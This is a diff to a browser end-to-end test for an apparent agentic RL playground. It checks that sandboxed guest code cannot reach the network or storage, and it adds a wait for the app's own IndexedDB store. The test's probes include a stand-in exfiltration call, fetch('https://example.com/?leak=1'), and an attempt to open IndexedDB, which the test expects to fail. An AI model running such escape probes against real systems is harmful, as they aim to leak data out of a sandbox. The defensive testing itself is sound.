@@ -106,7 +106,11 @@ describe('env studio: code envs', () => {
       (window as unknown as { heard: number }).heard = 0;
       addEventListener('message', () => (window as unknown as { heard: number }).heard++);
     });
-    const dbsBefore = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());
+    const dbNames = () => page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());
+    // The app opens its own run store at load (main.tsx refreshRuns), a moment after the panel
+    // shows; wait for it so the comparison below sees only what the guest code could add.
+    await expect.poll(dbNames, { timeout: 15_000 }).toContain('agentic-rl-playground-runs');
+    const dbsBefore = await dbNames();
     const attempts: [string, string, RegExp][] = [
       ['fetch', "fetch('https://example.com/?leak=1');", /\[exception\] step\(\) threw ReferenceError: '?fetch'? is not defined/],
       ['indexedDB', "indexedDB.open('escaped');", /\[exception\] step\(\) threw ReferenceError: '?indexedDB'? is not defined/],
@@ -129,7 +133,7 @@ describe('env studio: code envs', () => {
     expect(outbound).toEqual([]);
     expect(await page.evaluate(() => (window as unknown as { heard: number }).heard)).toBe(0);
     expect(await page.evaluate(() => localStorage.getItem('escaped'))).toBeNull();
-    expect(await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort())).toEqual(dbsBefore);
+    expect(await dbNames()).toEqual(dbsBefore);
     await page.close();
   });
 
